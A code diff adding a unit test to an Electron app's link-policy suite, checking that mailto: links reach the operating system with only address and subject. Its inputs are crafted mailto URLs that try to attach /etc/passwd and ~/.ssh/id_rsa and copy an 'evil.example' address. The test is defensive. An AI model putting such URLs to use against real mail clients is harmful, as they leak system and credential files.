@@ -157,6 +157,15 @@ describe('link policy', () => {
       expect(isAllowedExternalUrl(url), url).toBe(false);
   });
 
+  it('a mailto: reaches the OS with its address and subject only (main: attach= and body= passed on)', () => {
+    const contents = new electron.FakeWebContents();
+    lockDownWebContents(contents as never);
+    contents.windowOpenHandler!({ url: 'mailto:bob@example.org?subject=Hello%20there&attach=/etc/passwd&body=secret&cc=eve@evil.example&bcc=eve@evil.example' });
+    contents.windowOpenHandler!({ url: 'mailto:bob@example.org,ann@example.org?ATTACH=~/.ssh/id_rsa#frag' });
+    expect(electron.shell.openExternal.mock.calls.map((c) => c[0])).toEqual(['mailto:bob@example.org?subject=Hello%20there', 'mailto:bob@example.org,ann@example.org']);
+    expect(isAllowedExternalUrl('mailto:?attach=/etc/passwd')).toBe(false);
+  });
+
   it('window.open is always denied; allowed links go to the OS, others nowhere', () => {
     const contents = new electron.FakeWebContents();
     lockDownWebContents(contents as never);
